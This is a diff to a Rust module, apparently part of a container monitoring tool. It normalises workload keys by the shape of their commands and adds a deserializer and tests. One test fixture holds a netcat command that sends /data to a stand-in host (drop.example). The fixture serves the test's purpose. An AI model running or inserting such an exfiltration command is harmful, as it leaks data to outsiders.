@@ -5,8 +5,9 @@
 use std::fmt;
 use std::sync::Arc;
 
-use serde::{Deserialize, Serialize};
+use serde::{Deserialize, Deserializer, Serialize};
 
+use crate::shape::shape;
 use crate::time::Time;
 use crate::untrusted::Untrusted;
 
@@ -100,15 +101,21 @@ pub struct Namespaces {
 }
 
 /// What survives a restart: the key of baselines, approvals and incidents. Made by
-/// [`crate::identity::Container::workload`]; never from labels alone.
-#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
+/// [`crate::identity::Container::workload`]; never from labels alone. The command in it is in its [`shape`]: what changes
+/// nothing makes no other workload.
+#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize)]
 #[serde(transparent)]
 pub struct WorkloadKey(Untrusted);
 
 impl WorkloadKey {
-    /// A workload by its text form, bounded like all foreign text.
+    /// A workload by its text form, bounded like all foreign text. Forms that were stored before commands had a shape
+    /// become the same key as the workload has now.
     pub fn new(text: &str) -> Self {
-        Self(Untrusted::new(text))
+        let text = Untrusted::new(text);
+        match shaped(text.raw()) {
+            Some(shaped) => Self(Untrusted::new(&shaped)),
+            None => Self(text),
+        }
     }
 
     /// The text as it came, unescaped: for comparing, not for showing.
@@ -126,8 +133,58 @@ impl WorkloadKey {
     }
 }
 
+// Keys are stored with approvals, incidents and expectations, and older ones have their commands as they were typed.
+impl<'de> Deserialize<'de> for WorkloadKey {
+    fn deserialize<D: Deserializer<'de>>(deserializer: D) -> Result<Self, D::Error> {
+        Ok(Self::new(&String::deserialize(deserializer)?))
+    }
+}
+
+/// The text with its command in its shape; `None` for one without a command.
+fn shaped(text: &str) -> Option<String> {
+    if let Some(program) = text.strip_prefix("unclaimed:") {
+        return Some(format!("unclaimed:{}", shape(program)));
+    }
+    let is_service = text.starts_with("swarm:") || text.starts_with("compose:");
+    let (image, command) = text.split_once(" [").filter(|_| !is_service)?;
+    let (command, end) = command.strip_suffix(']').map_or((command, ""), |command| (command, "]"));
+    Some(format!("{image} [{}{end}", shape(command)))
+}
+
 impl fmt::Display for WorkloadKey {
     fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
         self.0.fmt(f)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::WorkloadKey;
+
+    fn stored(text: &str) -> WorkloadKey {
+        serde_json::from_value(serde_json::json!(text)).unwrap()
+    }
+
+    #[test]
+    fn a_comment_splits_no_workload() {
+        let workload = |n| WorkloadKey::new(&format!("busybox [sh -c 'nc drop.example 80 </data' # {n}]"));
+        assert_eq!(workload(1), workload(2));
+        assert_eq!(workload(1).short(), "busybox");
+    }
+
+    #[test]
+    fn a_key_that_was_stored_as_it_was_typed_is_the_one_of_today() {
+        for typed in [
+            "busybox [sh -c sleep  5 # x]",
+            "shop/web [httpd -f]",
+            "swarm:shop shop/web",
+            "unclaimed:sh -c run 3",
+        ] {
+            assert_eq!(stored(typed), WorkloadKey::new(typed));
+            assert_eq!(stored(WorkloadKey::new(typed).raw()), WorkloadKey::new(typed));
+        }
+        assert_eq!(WorkloadKey::new("shop/web [httpd -f]").raw(), "shop/web [httpd -f]");
+        let cut = format!("busybox [sh -c {}", "run 7; ".repeat(100));
+        assert_eq!(stored(&cut), WorkloadKey::new(&cut));
     }
 }
